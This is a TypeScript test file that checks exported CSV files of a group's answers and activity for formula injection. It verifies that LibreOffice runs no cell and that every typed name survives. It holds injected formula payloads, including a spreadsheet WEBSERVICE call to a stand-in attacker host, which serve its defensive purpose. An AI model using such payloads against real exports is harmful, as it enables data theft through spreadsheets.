// The files we export, opened by a real spreadsheet program: no cell of them is run, and what people typed is there.
import { expect, test } from 'vitest'
import { activityTable } from '#client/activity/activity-table.ts'
import { answersTable } from '#client/group/answers/answers-table.ts'
import { csvText } from '#client/lib/files/csv-cells.ts'
import { activityApi } from '#protocol/record/activity.ts'
import { groupApi } from '#protocol/seats/group.ts'
import { formulas, payloads } from '../kit/hostile/markup.ts'
import { type Cell, calc, opened } from '../kit/hostile/spreadsheet.ts'
import { guestNo, openWorld } from '../kit/world/world.ts'

const texts = [...formulas, '=WEBSERVICE("http://evil.test")', ...payloads.map(({ text }) => text)]

const roles = ['=1+1', '@SUM(1)']

/** The answers and the activity of a group in which everybody is called like a formula, as they are saved; and who was taken. */
async function exported() {
  const world = await openWorld()
  const ada = await world.person('ada', 'pro')
  const { groupId } = await world.event(
    ada,
    roles.map((name) => ({ name, max: 50 })),
  )
  const names: string[] = []
  for (const [nth, name] of texts.entries()) {
    const { status } = await world.answer(groupId, world.proven(guestNo(nth), groupId), [roles[nth % 2] ?? ''], { name, note: name })
    if (status === 200) names.push(name)
  }
  const { rsvps } = await world.ok(groupApi.rsvps, { id: groupId }, ada)
  const { activity } = await world.ok(activityApi.list, { id: groupId }, ada)
  return { names, files: [await csvText(answersTable(rsvps, 'UTC')), await csvText(activityTable(activity, 'UTC'))] }
}
const formulasOf = (sheets: readonly Cell[][][]) =>
  sheets.flatMap((rows) => rows.flatMap((cells) => cells.flatMap(({ formula }) => formula ?? [])))
/** What can be seen of a text. */
const seen = (text: string) => text.replace(/['\s\p{Default_Ignorable_Code_Point}]/gu, '')

test.runIf(calc)(
  'S14 no cell of an exported file is run by LibreOffice, however it parts them; every name is there',
  { timeout: 180_000 },
  async () => {
    const { names, files } = await exported()
    expect(names.length).toBeGreaterThan(formulas.length)
    for (const parting of [',', ';', '\t'] as const) expect([parting, formulasOf(await opened(files, parting))]).toEqual([parting, []])
    const [answers = []] = await opened(files, ',')
    const shown = answers.map(([first]) => seen(first?.text ?? ''))
    expect(names.filter((name) => !shown.includes(seen(name)))).toEqual([])
  },
)

test.runIf(calc)('S14 control: a file put together by hand is run', async () => {
  const byHand = formulas.map((text) => `${text},x`).join('\r\n')
  expect(formulasOf(await opened([byHand], ','))).toContain('of:=1+1')
})
